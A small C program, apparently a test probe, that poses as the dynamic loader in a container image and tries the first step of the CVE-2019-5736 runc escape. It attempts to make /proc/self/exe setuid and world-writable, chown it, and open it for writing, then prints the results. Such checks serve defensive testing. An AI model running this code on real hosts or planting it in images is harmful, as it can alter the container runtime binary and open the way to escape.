// Stands in the place of the dynamic loader in an image, and tries to change the program that it was started for: what
// CVE-2019-5736 begins with. Writes the three results; a program that can be changed gives "0 0" and a descriptor.
//
//   cc -nostdlib -static-pie -fPIE -O1 -fno-stack-protector -o loader loader.c
#ifdef __x86_64__
enum { WRITE = 1, EXIT = 60, OPENAT = 257, FCHOWNAT = 260, FCHMODAT = 268 };

static long call(long number, long a, long b, long c, long d, long e) {
    register long fourth __asm__("r10") = d, fifth __asm__("r8") = e;
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth), "r"(fifth)
                     : "rcx", "r11", "memory");
    return result;
}
#else
enum { FCHMODAT = 53, FCHOWNAT = 54, OPENAT = 56, WRITE = 64, EXIT = 93 };

static long call(long number, long a, long b, long c, long d, long e) {
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d, x4 __asm__("x4") = e;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4) : "memory");
    return x0;
}
#endif

static void say(long number) {
    char text[24], *next = text + sizeof text;
    *--next = ' ';
    unsigned long rest = number < 0 ? -(unsigned long)number : (unsigned long)number;
    do *--next = (char)('0' + rest % 10);
    while (rest /= 10);
    if (number < 0) *--next = '-';
    call(WRITE, 1, (long)next, text + sizeof text - next, 0, 0);
}

void _start(void) {
    const char *program = "/proc/self/exe";
    call(WRITE, 1, (long)"changes: ", 9, 0, 0);
    say(call(FCHMODAT, -100, (long)program, 04777, 0, 0));
    say(call(FCHOWNAT, -100, (long)program, 1000, 1000, 0));
    say(call(OPENAT, -100, (long)program, 1, 0, 0));
    call(WRITE, 1, (long)"\n", 1, 0, 0);
    call(EXIT, 0, 0, 0, 0, 0);
    for (;;) {}
}
